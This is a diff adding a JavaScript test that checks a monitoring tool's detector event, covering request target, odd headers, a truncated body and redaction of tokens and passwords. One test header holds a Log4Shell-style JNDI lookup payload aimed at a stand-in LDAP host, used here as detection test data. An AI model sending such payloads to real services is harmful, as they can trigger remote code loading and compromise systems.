@@ -326,3 +326,23 @@ it('tells the user of an NTLM login', () => {
     expect(JSON.stringify(heard.told)).not.toContain(answer.slice(0, 16));
   }
 });
+
+describe('what detectors see', () => {
+  it('has the target as sent, odd headers and the beginning of a body, which are told nowhere', () => {
+    const body = `user=anna&password=secret2&x=${'a'.repeat(6000)}`;
+    const heard = talk([
+      ask(
+        `POST /in?token=secret1 HTTP/1.1\r\nHost: a.example\r\nX-Api: \${jndi:ldap://x/a}\r\nAccept: */*\r\n` +
+          `Content-Length: ${body.length}\r\n\r\n${body}`,
+      ),
+      ok(page),
+    ]);
+    expect(heard.shown).toHaveLength(1);
+    const [{ kind, event }] = heard.shown;
+    expect(kind).toBe('http_request');
+    expect(event).toMatchObject({ method: 'POST', target: '/in?token=secret1', shownTarget: '/in?token=***' });
+    expect(event.odd).toBe(`X-Api: \${jndi:ldap://x/a}\n`);
+    expect(event.body).toBe(body.slice(0, 4096));
+    expect(JSON.stringify(heard.told)).not.toContain('secret');
+  });
+});
